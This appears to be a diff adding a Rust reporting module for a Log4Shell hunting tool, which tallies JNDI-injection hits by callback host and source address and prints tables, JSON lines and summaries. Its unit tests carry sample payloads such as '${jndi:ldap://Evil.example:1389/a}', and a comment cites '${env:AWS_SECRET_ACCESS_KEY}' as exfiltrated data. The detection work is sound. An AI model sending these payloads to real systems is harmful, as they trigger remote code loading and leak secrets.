@@ -1,0 +1,301 @@
+//! What a hunt reports: a table for people, JSON lines for machines, and a [`Tally`] of hits by
+//! class, callback host and source address that the summary, the STIX bundle and the threat
+//! report are built from. Functions here return text; the CLI decides where it goes.
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::fmt::Write as _;
+use std::net::IpAddr;
+
+use serde::Serialize;
+
+use super::input::HuntTotals;
+use super::{Hit, HitClass};
+
+/// Longest decoded payload shown in a table row, in characters.
+pub const TABLE_PAYLOAD_CHARS: usize = 80;
+
+/// How often one callback host was named, and how.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
+pub struct TargetTally {
+    /// Hits naming the host.
+    pub hits: u64,
+    /// JNDI protocols used with it, e.g. `ldap`.
+    pub protocols: BTreeSet<String>,
+    /// Ports used with it.
+    pub ports: BTreeSet<u16>,
+    /// Victim data sent to it, e.g. `${env:AWS_SECRET_ACCESS_KEY}`.
+    pub exfiltration: BTreeSet<String>,
+}
+
+/// The first hit of a hunt, as evidence of when and where the attack was seen.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct FirstHit {
+    /// The input it is in.
+    pub input: String,
+    /// Its line number.
+    pub line_number: u64,
+    /// What it decodes to.
+    pub decoded_payload: String,
+}
+
+/// Hits counted by class, callback host and source address.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
+pub struct Tally {
+    /// Hits per class name (`jndi`, `exfiltration`, ...).
+    pub hits_per_class: BTreeMap<&'static str, u64>,
+    /// Callback hosts, lower-cased, with lookups left in place.
+    pub targets: BTreeMap<String, TargetTally>,
+    /// Source addresses and their hit counts.
+    pub sources: BTreeMap<IpAddr, u64>,
+    /// Distinct decoded payloads, the first [`Tally::MAX_EXAMPLES`] seen.
+    pub examples: Vec<String>,
+    /// The first hit recorded.
+    pub first: Option<FirstHit>,
+}
+
+impl Tally {
+    /// Most example payloads kept.
+    pub const MAX_EXAMPLES: usize = 10;
+
+    /// Counts one hit found in `input`.
+    pub fn record(&mut self, input: &str, hit: &Hit) {
+        *self.hits_per_class.entry(hit.class.as_str()).or_default() += 1;
+        if let Some(host) = &hit.target_host {
+            let target = self.targets.entry(host.to_lowercase()).or_default();
+            target.hits += 1;
+            if let Some(protocol) = &hit.protocol {
+                target.protocols.insert(protocol.to_string());
+            }
+            target.ports.extend(hit.target_port);
+            target
+                .exfiltration
+                .extend(hit.exfiltration.iter().map(ToString::to_string));
+        }
+        if let Some(ip) = hit.source_ip {
+            *self.sources.entry(ip).or_default() += 1;
+        }
+        if self.examples.len() < Self::MAX_EXAMPLES && !self.examples.contains(&hit.decoded_payload)
+        {
+            self.examples.push(hit.decoded_payload.clone());
+        }
+        if self.first.is_none() {
+            self.first = Some(FirstHit {
+                input: input.to_string(),
+                line_number: hit.line_number,
+                decoded_payload: hit.decoded_payload.clone(),
+            });
+        }
+    }
+
+    /// Total hits counted.
+    pub fn hits(&self) -> u64 {
+        self.hits_per_class.values().sum()
+    }
+}
+
+/// The closing totals of a hunt, printed last (`"type": "summary"` in JSON lines).
+#[derive(Debug, Clone, PartialEq, Serialize)]
+pub struct Summary {
+    /// Always `summary`, to tell this line from hit lines.
+    #[serde(rename = "type")]
+    pub kind: &'static str,
+    /// Files, bytes, lines and hits.
+    #[serde(flatten)]
+    pub totals: HuntTotals,
+    /// Hits per class name; every class is listed, with 0 when absent.
+    pub hits_per_class: BTreeMap<&'static str, u64>,
+    /// Distinct callback hosts.
+    pub distinct_targets: usize,
+    /// Distinct source addresses.
+    pub distinct_sources: usize,
+    /// Problems with inputs, one sentence each.
+    pub warnings: Vec<String>,
+    /// Wall-clock time of the scan.
+    pub elapsed_seconds: f64,
+    /// Scanned (decompressed) megabytes (10^6 bytes) per second.
+    pub megabytes_per_second: f64,
+}
+
+impl Summary {
+    /// Builds the summary from the run's totals, tally, warnings and duration.
+    pub fn new(
+        totals: HuntTotals,
+        tally: &Tally,
+        warnings: Vec<String>,
+        elapsed_seconds: f64,
+    ) -> Self {
+        let mut hits_per_class: BTreeMap<&'static str, u64> =
+            HitClass::ALL.iter().map(|c| (c.as_str(), 0)).collect();
+        hits_per_class.extend(tally.hits_per_class.iter().map(|(k, v)| (*k, *v)));
+        let megabytes_per_second = if elapsed_seconds > 0.0 {
+            totals.scan.bytes as f64 / 1e6 / elapsed_seconds
+        } else {
+            0.0
+        };
+        Self {
+            kind: "summary",
+            totals,
+            hits_per_class,
+            distinct_targets: tally.targets.len(),
+            distinct_sources: tally.sources.len(),
+            warnings,
+            elapsed_seconds,
+            megabytes_per_second,
+        }
+    }
+
+    /// The summary as a few lines of text for people.
+    pub fn to_text(&self) -> String {
+        let t = &self.totals;
+        let mut text = format!(
+            "scanned {} file(s) ({} compressed, {} unreadable), {} lines, {:.1} MB in {:.2} s ({:.0} MB/s)\n",
+            t.files,
+            t.compressed_files,
+            t.failed_files,
+            t.scan.lines,
+            t.scan.bytes as f64 / 1e6,
+            self.elapsed_seconds,
+            self.megabytes_per_second
+        );
+        let classes: Vec<String> = self
+            .hits_per_class
+            .iter()
+            .map(|(class, n)| format!("{class} {n}"))
+            .collect();
+        let _ = writeln!(
+            text,
+            "{} hit(s): {}; {} suppressed; {} callback host(s), {} source address(es)",
+            t.scan.hits,
+            classes.join(", "),
+            t.scan.suppressed,
+            self.distinct_targets,
+            self.distinct_sources
+        );
+        for warning in &self.warnings {
+            let _ = writeln!(text, "warning: {warning}");
+        }
+        text
+    }
+}
+
+/// The header line of the hit table.
+pub fn table_header() -> String {
+    format!(
+        "{:<40} {:>12} {:<17} {:<6} {:<32} {:<15} {}",
+        "FILE:LINE", "OFFSET", "CLASS", "PROTO", "TARGET", "SOURCE", "DECODED PAYLOAD"
+    )
+}
+
+/// One table row for a hit; attacker text is escaped so it cannot drive the terminal.
+pub fn table_row(input: &str, hit: &Hit) -> String {
+    let location = format!("{input}:{}", hit.line_number);
+    let target = match (&hit.target_host, hit.target_port) {
+        (Some(host), Some(port)) => format!("{host}:{port}"),
+        (Some(host), None) => host.clone(),
+        _ => "-".to_string(),
+    };
+    let mut class = hit.class.as_str().to_string();
+    if hit.suppressed {
+        class.push_str("(supp)");
+    }
+    format!(
+        "{:<40} {:>12} {:<17} {:<6} {:<32} {:<15} {}",
+        printable(&location, 60),
+        hit.byte_offset,
+        class,
+        hit.protocol.as_ref().map_or("-", |p| p.as_str()),
+        printable(&target, 48),
+        hit.source_ip
+            .map_or_else(|| "-".to_string(), |ip| ip.to_string()),
+        printable(&hit.decoded_payload, TABLE_PAYLOAD_CHARS)
+    )
+}
+
+/// A hit as one JSON object with the input it was found in (`"type": "hit"`).
+pub fn json_line(input: &str, hit: &Hit) -> String {
+    #[derive(Serialize)]
+    struct Line<'a> {
+        #[serde(rename = "type")]
+        kind: &'static str,
+        path: &'a str,
+        #[serde(flatten)]
+        hit: &'a Hit,
+    }
+    serde_json::to_string(&Line {
+        kind: "hit",
+        path: input,
+        hit,
+    })
+    .expect("a hit always serializes")
+}
+
+/// `text` with control characters escaped, cut to `max_chars` with an ellipsis.
+pub fn printable(text: &str, max_chars: usize) -> String {
+    let mut out = String::with_capacity(text.len().min(max_chars * 2));
+    for (count, c) in text.chars().enumerate() {
+        if count == max_chars {
+            out.push('…');
+            break;
+        }
+        if c.is_control() {
+            out.extend(c.escape_default());
+        } else {
+            out.push(c);
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::hunt::Hunter;
+
+    fn hit(line: &str) -> Hit {
+        Hunter::default().scan_line(line.as_bytes()).remove(0)
+    }
+
+    #[test]
+    fn tally_and_summary() {
+        let mut tally = Tally::default();
+        let a = hit(
+            r#"203.0.113.7 - - [10/Dec/2021:10:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "${jndi:ldap://Evil.example:1389/a}""#,
+        );
+        let b = hit("${jndi:rmi://evil.example/b}");
+        tally.record("access.log", &a);
+        tally.record("access.log", &b);
+        assert_eq!(tally.hits(), 2);
+        let target = &tally.targets["evil.example"];
+        assert_eq!(target.hits, 2);
+        assert_eq!(target.protocols.iter().collect::<Vec<_>>(), ["ldap", "rmi"]);
+        assert_eq!(tally.sources.len(), 1);
+        assert_eq!(tally.first.as_ref().unwrap().line_number, 1);
+
+        let totals = HuntTotals {
+            files: 1,
+            ..HuntTotals::default()
+        };
+        let summary = Summary::new(totals, &tally, vec!["x: broken".into()], 0.5);
+        assert_eq!(summary.hits_per_class["jndi"], 2);
+        assert_eq!(summary.hits_per_class["recursion_dos"], 0);
+        let json = serde_json::to_value(&summary).unwrap();
+        assert_eq!(json["type"], "summary");
+        assert_eq!(json["files"], 1);
+        assert!(summary.to_text().contains("warning: x: broken"));
+    }
+
+    #[test]
+    fn rows_escape_attacker_text() {
+        let mut h = hit("${jndi:ldap://a.example/x}");
+        h.decoded_payload = "\u{1b}[31mred\u{1b}[0m".to_string() + &"y".repeat(200);
+        let row = table_row("f.log", &h);
+        assert!(!row.contains('\u{1b}'));
+        assert!(row.contains("\\u{1b}[31mred"));
+        assert!(row.ends_with('…'));
+        let json: serde_json::Value = serde_json::from_str(&json_line("f.log", &h)).unwrap();
+        assert_eq!(json["type"], "hit");
+        assert_eq!(json["path"], "f.log");
+        assert_eq!(json["class"], "jndi");
+        assert_eq!(json["target_host"], "a.example");
+    }
+}
